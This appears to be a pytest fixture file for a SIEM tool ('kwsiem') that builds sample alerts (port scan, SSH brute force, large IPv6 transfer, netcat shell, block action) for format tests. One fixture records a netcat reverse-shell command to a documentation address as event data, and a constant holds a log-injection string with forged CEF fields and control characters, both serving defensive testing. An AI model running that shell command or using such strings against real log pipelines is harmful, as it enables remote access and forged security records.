"""Documents that the tests of every format share."""

import pytest

from kwsiem.document import document
from kwsiem.formats.digest import digest

HOSTILE_TEXT = 'a=b \\ c | d "q" ]x\ncs1=forged\r\x00\x1b[31m\u2028<0>1 CEF:0|\u202e é 🦊\\'


@pytest.fixture
def scan(make_alert):
    """The document of a port scan."""
    return document(make_alert())


@pytest.fixture
def hostile(make_alert):
    """A password attack in which everything the attacker chose is hostile."""
    fields = {
        "event.outcome": "failure",
        "service.name": "sshd",
        "user.name": HOSTILE_TEXT,
        "source.address": "2001:db8::bad:1",
        "source.ip": "2001:db8::bad:1",
        "destination.ip": "2001:db8::10",
        "process.pid": 2211,
        "process.name": HOSTILE_TEXT,
        "process.command_line": HOSTILE_TEXT,
        "file.path": f"/tmp/{HOSTILE_TEXT}",
        "pam.result": 7,
    }
    return document(
        make_alert(
            rule_id="ssh-brute-force",
            title="SSH brute force",
            level="critical",
            identity={"user.name": HOSTILE_TEXT},
            reason=f"25 failures, last: {HOSTILE_TEXT}",
            tags=["attack.t1110.001"],
            fields=fields,
            values=[HOSTILE_TEXT, "root"],
            evidence=[{"kind": "auth.attempt", "ts_ns": 1, **fields}],
        )
    )


@pytest.fixture
def ipv6(make_alert):
    """An IPv6 connection that carried more bytes than 32 bits hold."""
    fields = {
        "source.ip": "2001:DB8:0::bad:1%eth0",
        "source.port": 51514,
        "source.bytes": 5_000_000_000,
        "source.packets": 4_000_000,
        "destination.ip": "2001:db8::10",
        "destination.port": 443,
        "destination.bytes": 12,
        "network.direction": "ingress",
        "network.protocol": "tls",
        "observer.ingress.interface.name": "eth0",
    }
    return document(
        make_alert(
            rule_id="exfiltration",
            title="Large transfer",
            level="medium",
            state="update",
            identity={"source.ip": "2001:db8::bad:1"},
            count=1,
            reason="5000000000 bytes in 1h",
            tags=["attack.exfiltration", "attack.t1048.003"],
            fields=fields,
            values=[],
            evidence=[{"kind": "tcp.open", "ts_ns": 5, **fields, "source.ip": "2001:db8::bad:1"}],
        )
    )


@pytest.fixture
def auth(make_alert):
    """A password attack on sshd from an address without a name."""
    fields = {
        "event.outcome": "failure",
        "service.name": "sshd",
        "user.name": "root",
        "source.address": "198.51.100.23",
        "source.ip": "198.51.100.23",
        "process.pid": 2211,
        "process.user.id": 0,
        "pam.result": 7,
    }
    events = [{"kind": "auth.attempt", "ts_ns": n * 500_000_000, **fields} for n in range(1, 4)]
    return document(
        make_alert(
            rule_id="ssh-brute-force",
            title="SSH brute force",
            level="critical",
            identity={"source.ip": "198.51.100.23"},
            count=10,
            reason="10 failures in 60s",
            tags=["attack.credential-access", "attack.t1110.001"],
            fields=fields,
            values=[],
            evidence=events,
        )
    )


@pytest.fixture
def process(make_alert):
    """A program started by somebody who is on this host."""
    fields = {
        "process.pid": 4711,
        "process.name": "nc",
        "process.executable": "/usr/bin/nc.traditional",
        "process.command_line": "nc -e /bin/sh 203.0.113.9 4444",
        "process.args": ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
        "process.parent.pid": 4242,
        "process.parent.name": "bash",
        "process.user.id": 1000,
        "user.name": "joe",
        "user.id": 1000,
        "file.path": "/usr/bin/nc.traditional",
        "cgroup.id": 77,
    }
    return document(
        make_alert(
            rule_id="netcat-shell",
            title="Netcat with a shell",
            level="informational",
            identity={"process.pid": 4711},
            count=1,
            reason="process.command_line contains -e",
            tags=["attack.execution", "attack.t1059"],
            fields=fields,
            values=[],
            evidence=[{"kind": "process.exec", "ts_ns": 7, **fields}],
        )
    )


@pytest.fixture
def close(make_alert):
    """The end of a scan whose source a rule asked to block."""
    return document(
        make_alert(
            state="close",
            count=1500,
            reason="1500 events, quiet for 5m",
            block={"value": "198.51.100.7", "for_s": 600, "spoofable": False},
        )
    )


@pytest.fixture
def digested(scan, hostile, ipv6, auth, process, close):
    """A digest of all of these."""
    return digest([scan, hostile, ipv6, auth, process, close])


CASES = ("scan", "hostile", "ipv6", "auth", "process", "close", "digested")


@pytest.fixture
def documents(request):
    """All of these by name."""
    return {name: request.getfixturevalue(name) for name in CASES}
